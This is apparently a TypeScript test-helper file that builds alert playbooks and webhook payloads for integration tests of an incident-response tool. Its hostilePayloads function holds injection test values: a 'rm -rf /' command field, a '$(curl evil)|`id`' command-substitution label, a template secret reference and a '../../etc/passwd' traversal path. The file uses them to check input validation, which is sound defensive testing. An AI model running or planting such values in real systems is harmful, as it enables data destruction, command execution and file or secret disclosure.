// Alerts and playbooks for the bus tests (test/integration/bus-*.test.ts, test/reliability/bus-crash.test.ts).
import type { Playbook } from '../../src/playbooks/schema.js';
import type { IncidentStatus } from '../../workflows/contracts.js';
import { demoPlaybook, testPlaybook } from './fixtures.js';
import { incidentIdFrom, type Medic } from './medic.js';

/** Incidents that hold at an approval nobody gives: they stay open and absorb every alert sent. */
export function heldPlaybook(name: string, alertname: string): Playbook {
  return testPlaybook({
    name,
    match: { alertname },
    groupBy: ['alertname', 'service'],
    target: '{{labels.service}}',
    steps: [{ name: 'guarded', action: 'http', params: { method: 'POST', url: 'http://127.0.0.1:9/none' }, requiresApproval: true, approvers: ['nobody'], approvalTimeout: '1h' }],
  });
}

/** medic's generic payload: one alert per label set. */
export const genericBody = (alerts: { name: string; labels: Record<string, string> }[]): string =>
  JSON.stringify({ alerts: alerts.map((a) => ({ name: a.name, severity: 'warning', labels: a.labels })) });

/** Payloads an attacker (or a broken producer) sends; each either refused by the webhook (4xx) or
 * accepted with its labels as data. `route` is the webhook that takes that shape. */
export function hostilePayloads(alertname: string, service: string): { name: string; route: string; body: string }[] {
  const am = (labels: Record<string, string>, extra: Record<string, unknown> = {}): string =>
    JSON.stringify({ version: '4', groupKey: 'g', status: 'firing', receiver: 'medic', alerts: [{ status: 'firing', labels: { alertname, service, ...labels }, annotations: {}, startsAt: '2026-01-01T00:00:00Z' }], ...extra });
  return [
    { name: 'not JSON', route: 'alertmanager', body: '{"version":"4", "alerts": [' },
    { name: 'alertname missing', route: 'alertmanager', body: JSON.stringify({ version: '4', groupKey: 'g', status: 'firing', receiver: 'm', alerts: [{ status: 'firing', labels: { service }, startsAt: 'x' }] }) },
    { name: 'wrong status enum', route: 'generic', body: JSON.stringify({ alerts: [{ name: alertname, status: 'exploded' }] }) },
    { name: 'unknown field (strict generic)', route: 'generic', body: JSON.stringify({ alerts: [{ name: alertname, command: 'rm -rf /' }] }) },
    { name: 'label value over maxLabelBytes', route: 'alertmanager', body: am({ instance: 'x'.repeat(2_000) }) },
    { name: 'too many labels', route: 'alertmanager', body: am(Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`l${i}`, 'v']))) },
    // Accepted by both: label injection is data, rendered per context downstream.
    { name: 'label injection (accepted as data)', route: 'alertmanager', body: am({ instance: '$(curl evil)|`id`;\n<!channel> {{secret.X}}', pod: '../../etc/passwd' }) },
  ];
}

/** One demo outage healed end to end by playbook `name` (the lifecycle the events-out tests read
 * back from the bus): returns the incident's resolved status. */
export async function resolvedDemoIncident(medic: Medic, name: string, service: string): Promise<IncidentStatus> {
  medic.demo.state.fault = 'outage';
  medic.playbooks.push(demoPlaybook(medic.demo.url, { name }));
  const id = await incidentIdFrom(await medic.postAlerts('firing', { alertname: 'DemoServiceDown', service, severity: 'critical' }));
  return medic.waitFor(id, (s) => s.status === 'resolved', 60_000);
}
